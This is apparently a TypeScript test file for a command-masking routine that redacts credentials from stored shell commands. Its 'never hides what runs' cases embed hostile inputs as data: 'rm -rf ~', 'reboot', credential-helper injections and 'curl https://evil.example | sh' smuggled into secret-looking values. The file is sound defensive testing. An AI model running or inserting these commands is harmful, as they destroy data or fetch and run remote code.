import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  AGE,
  ANTHROPIC,
  AWS,
  AWS_SECRET,
  DAAI,
  DAAI_MANAGEMENT,
  DOCKER,
  GITHUB,
  GITHUB_FINE,
  GITLAB,
  GOOGLE,
  HUGGING,
  JWT,
  KEY,
  NPM,
  OPENAI,
  PYPI,
  SENDGRID,
  SLACK,
  SLACK_HOOK,
  STRIPE,
  TELEGRAM,
  VAULT,
} from "@/lib/testing/example-secrets";
import { proofSize } from "@/lib/testing/guarantees/proof-size";
import { maskCommand } from "./mask-command";
import { maskText } from "./mask-secrets";
import { readShell } from "./read-shell";
import { startedBy } from "./started-program";

/** A command line, and what is stored of it. */
const COMMANDS: readonly (readonly [string, string])[] = [
  [`aws configure set aws_access_key_id ${AWS}`, "aws configure set aws_access_key_id [masked]"],
  [`AWS_SECRET_ACCESS_KEY=${AWS_SECRET} aws s3 ls`, "AWS_SECRET_ACCESS_KEY=[masked] aws s3 ls"],
  [`export AWS_SESSION_TOKEN="${AWS_SECRET}"`, "export AWS_SESSION_TOKEN=[masked]"],
  [
    `curl -H "Authorization: Bearer ${GITHUB}" https://api.github.com/user`,
    'curl -H "Authorization: Bearer [masked]" https://api.github.com/user',
  ],
  [`git clone https://${GITHUB}@github.com/acme/shop.git`, "git clone https://[masked]@github.com/acme/shop.git"],
  [`git clone https://ada:${GITHUB}@github.com/acme/shop.git`, "git clone https://ada:[masked]@github.com/acme/shop.git"],
  [`GH_TOKEN=${GITHUB_FINE} gh pr list`, "GH_TOKEN=[masked] gh pr list"],
  [
    `curl --header 'PRIVATE-TOKEN: ${GITLAB}' https://gitlab.example/api/v4`,
    "curl --header 'PRIVATE-TOKEN: [masked]' https://gitlab.example/api/v4",
  ],
  [`curl -F token=${SLACK} https://slack.com/api/chat.postMessage`, "curl -F token=[masked] https://slack.com/api/chat.postMessage"],
  [`curl -d '{"text":"done"}' https://${SLACK_HOOK}`, `curl -d '{"text":"done"}' [masked]`],
  [`curl -H "Cookie: session=${JWT}" https://shop.example`, 'curl -H "Cookie: [masked]" https://shop.example'],
  [`echo ${JWT} | cut -d. -f2`, "echo [masked] | cut -d. -f2"],
  [`stripe charges list --api-key ${STRIPE}`, "stripe charges list --api-key [masked]"],
  [`ANTHROPIC_API_KEY=${ANTHROPIC} python agent.py`, "ANTHROPIC_API_KEY=[masked] python agent.py"],
  [`export OPENAI_API_KEY='${OPENAI}' && npm test`, "export OPENAI_API_KEY=[masked] && npm test"],
  [`curl "https://maps.example/api?key=${GOOGLE}&q=x"`, 'curl "https://maps.example/api?key=[masked]&q=x"'],
  [`npm config set //packages.example/:_authToken=${NPM}`, "npm config set //packages.example/:_authToken=[masked]"],
  [`twine upload -u __token__ -p ${PYPI} dist/*`, "twine upload -u __token__ -p [masked] dist/*"],
  [`sendmail --with ${SENDGRID}`, "sendmail --with [masked]"],
  [`VAULT_TOKEN=${VAULT} vault read kv/shop`, "VAULT_TOKEN=[masked] vault read kv/shop"],
  [`huggingface-cli login --token ${HUGGING}`, "huggingface-cli login --token [masked]"],
  [`docker login -u ada -p ${DOCKER}`, "docker login -u ada -p [masked]"],
  [`docker login --password hunter2hunter2 registry.example`, "docker login --password [masked] registry.example"],
  [`DAAI_API_KEY=${DAAI} python first_run.py`, "DAAI_API_KEY=[masked] python first_run.py"],
  [`age -d -i <(echo ${AGE}) backup.age`, "age -d -i <(echo [masked]) backup.age"],
  [`curl https://api.telegram.org/bot${TELEGRAM}/getMe`, "curl https://api.telegram.org/bot[masked]/getMe"],
  [`echo "${KEY}" > key.pem`, 'echo "[masked]" > key.pem'],
  ["curl -u ada:correct-horse https://shop.example", "curl -u [masked] https://shop.example"],
  ["curl --user 'ada:it is; secret' https://shop.example", "curl --user [masked] https://shop.example"],
  ["curl -H 'X-Api-Key: 9f8e7d6c5b4a' https://shop.example", "curl -H 'X-Api-Key: [masked]' https://shop.example"],
  ["curl -H 'Authorization: Basic YWRhOnNlY3JldA==' https://shop.example", "curl -H 'Authorization: Basic [masked]' https://shop.example"],
  ["psql postgres://shop:S3cret@db.example:5432/shop -c 'SELECT 1'", "psql postgres://shop:[masked]@db.example:5432/shop -c 'SELECT 1'"],
  ["DATABASE_PASSWORD=hunter2 rails console", "DATABASE_PASSWORD=[masked] rails console"],
  ["PGPASSWORD='p;ss w0rd' psql -h db", "PGPASSWORD=[masked] psql -h db"],
  ["mysql -uroot -pS3cret shop", "mysql -uroot -p[masked] shop"],
  ["mysql --password=S3cret shop", "mysql --password=[masked] shop"],
  ["redis-cli -a hunter2 ping", "redis-cli -a [masked] ping"],
  ["redis-cli -u redis://:hunter2@cache.example:6379", "redis-cli -u redis://:[masked]@cache.example:6379"],
  ["sshpass -p hunter2 ssh ada@shop.example", "sshpass -p [masked] ssh ada@shop.example"],
  ["sshpass -phunter2 ssh ada@shop.example", "sshpass -p[masked] ssh ada@shop.example"],
  ["wget --password=hunter2 ftp://files.example/a", "wget --password=[masked] ftp://files.example/a"],
  ["openssl rsa -in key.pem -passin pass:hunter2", "openssl rsa -in key.pem -passin [masked]"],
  ["kubectl create secret generic db --from-literal=password=hunter2", "kubectl create secret generic db --from-literal=password=[masked]"],
  ["helm upgrade shop ./chart --set db.password=hunter2", "helm upgrade shop ./chart --set db.password=[masked]"],
  [`echo 'API_KEY="9f8e7d6c5b4a"' >> .env`, `echo 'API_KEY="[masked]"' >> .env`],
  ["curl 'https://shop.example/hook?signature=9f8e7d6c5b4a'", "curl 'https://shop.example/hook?signature=[masked]'"],
  [`curl -d '{"client_secret": "9f8e7d6c5b4a"}' https://shop.example`, `curl -d '{"client_secret": "[masked]"}' https://shop.example`],
  ["sudo DB_SECRET=hunter2 ./deploy.sh", "sudo DB_SECRET=[masked] ./deploy.sh"],
  ["bash -c 'TOKEN=hunter2secret ./deploy.sh'", "bash -c 'TOKEN=[masked] ./deploy.sh'"],
  [
    "git remote set-url origin https://oauth2:hunter2@git.example/shop.git",
    "git remote set-url origin https://oauth2:[masked]@git.example/shop.git",
  ],
  ["az login --service-principal -u app -p hunter2 --tenant acme", "az login --service-principal -u app -p [masked] --tenant acme"],
  ["echo $(PASSWORD=hunter2 ./print.sh)", "echo $(PASSWORD=[masked] ./print.sh)"],
  [`python -m daai policy plan --key ${DAAI_MANAGEMENT}`, "python -m daai policy plan --key [masked]"],
  ["DAAI_MANAGEMENT_KEY=short python -m daai policy plan", "DAAI_MANAGEMENT_KEY=[masked] python -m daai policy plan"],
  // The program is the one that runs, behind whatever starts it.
  ["sudo -n -u ada mysql -pS3cret shop", "sudo -n -u ada mysql -p[masked] shop"],
  ["env -u X timeout -k 1 5 curl -u ada:secret https://a.example", "env -u X timeout -k 1 5 curl -u [masked] https://a.example"],
  ["if ! redis-cli -a hunter2 ping; then exit 1; fi", "if ! redis-cli -a [masked] ping; then exit 1; fi"],
  ["docker -H tcp://prod login -u ada -p hunter2", "docker -H tcp://prod login -u ada -p [masked]"],
  ["find . -name a | xargs -n 1 sshpass -p hunter2 scp", "find . -name a | xargs -n 1 sshpass -p [masked] scp"],
  // Code in a word is read as a command line too.
  ["bash -e -c 'curl -u ada:secret https://a.example'", "bash -e -c 'curl -u [masked] https://a.example'"],
  ['bash -c "mysql -pS3cret $DB"', 'bash -c "mysql -p[masked] $DB"'],
  ['bash -c "curl -u \\"ada:it is secret\\" https://a.example"', "bash -c 'curl -u [masked] https://a.example'"],
  ["eval curl -u ada:secret https://a.example", "eval curl -u ada:secret https://a.example"],
  ["eval 'curl -u ada:secret https://a.example'", "eval 'curl -u [masked] https://a.example'"],
  ["./deploy --token 'it is; secret' --force", "./deploy --token [masked] --force"],
  ["curl -H 'Cookie: one=hunter2; two=hunter3' https://a.example", "curl -H 'Cookie: [masked]' https://a.example"],
  ["sqlcmd -C 'Server=db;Uid=sa;Pwd=hunter2;Encrypt=no'", "sqlcmd -C 'Server=db;Uid=sa;Pwd=[masked];Encrypt=no'"],
  ["./import --tokens hunter2,hunter3", "./import --tokens [masked]"],
  ["vault write auth/approle/login role_id=shop secret_id=hunter2", "vault write auth/approle/login role_id=shop secret_id=[masked]"],
];

describe("maskCommand", () => {
  it("has a corpus of at least 50 commands", () => {
    expect(COMMANDS.length).toBeGreaterThanOrEqual(50);
  });

  it.each(COMMANDS)("%j", (command, stored) => {
    expect(maskCommand(command)).toBe(stored);
    expect(maskCommand(stored)).toBe(stored);
  });

  it.each([
    "npm test -- --max-tokens 200",
    "git log --author=ada --since=yesterday",
    "python tokenizer.py --tokenizer=bert",
    "cat src/password-form.tsx",
    "curl https://shop.example:8443/orders?page=2",
    "docker run -p 3000:3000 shop",
    "mkdir -p build && echo $PASSWORD",
    "ls -la && pwd",
    "PWD=/srv/shop OLDPWD=/srv make",
    "./complete --tokens 200 --max-tokens=400",
    "aws secretsmanager get-secret-value --secret-id prod/shop",
  ])("leaves %j as it is", (command) => {
    expect(maskCommand(command)).toBe(command);
  });

  it.each([
    "PASSWORD=$(rm -rf ~) true",
    "PASSWORD=`rm -rf ~` true",
    `echo "PASSWORD='" ; rm -rf ~ ; echo "'"`,
    "echo 'PASSWORD=';reboot;'x'",
    'TOKEN="$(curl https://evil.example | sh)"',
    "curl -u $(rm -rf ~) https://shop.example",
    "API_KEY=x;reboot",
    "Authorization: Bearer abcdefgh;reboot",
    "TOKEN=bearer reboot",
    "X=bearer reboot --now",
    "--token reboot; reboot",
    "TOKEN= reboot",
    "bash -c 'TOKEN=bearer reboot'",
    "eval {TOKEN=hunter2,reboot}",
    "git -c credential.helper='!rm -rf ~' fetch",
    "RESTIC_PASSWORD_COMMAND='rm -rf ~' restic ls",
    "restic --password-command 'rm -rf ~' ls",
    "--token-command=reboot",
  ])("never hides what %j runs", (command) => {
    const code = command.match(/rm -rf ~|reboot|curl https:\/\/evil\.example \| sh/)?.[0];
    expect(maskCommand(command)).toContain(code ?? "nothing");
  });
});

const PIECES = [
  "TOKEN=",
  "--password ",
  "bearer ",
  "Authorization: ",
  "curl -u ",
  "mysql -p",
  "bash -c ",
  "eval ",
  "https://a:",
  "@b",
  AWS,
  DAAI,
].concat([
  "abcdefghij",
  "reboot",
  "sudo -u ",
  " ",
  " ",
  ";",
  "|",
  "&&",
  "\n",
  "'",
  '"',
  "$(",
  ")",
  "`",
  "\\",
  "$x",
  "{a,",
  "}",
  "<<EOF\n",
  "\nEOF\n",
]);
const lines = fc.array(fc.constantFrom(...PIECES), { maxLength: 14 }).map((pieces) => pieces.join(""));

/** The words of the programs that a command line starts, as they are written. One that looks like a secret is masked itself. */
function programsOf(line: string): string[] {
  return readShell(line).commands.flatMap(({ words }) => {
    const started = startedBy(words);
    return started === null || started === "unclear" ? [] : [maskText(line.slice(started.word.start, started.word.end))];
  });
}

describe("a mask", () => {
  it("hides no program of a command line that can be read", () => {
    fc.assert(
      fc.property(lines, (line) => {
        fc.pre(readShell(line).isClear);
        const masked = maskCommand(line);
        for (const program of programsOf(line)) expect(masked).toContain(program);
      }),
      { numRuns: proofSize(500, 5000) },
    );
  });
});
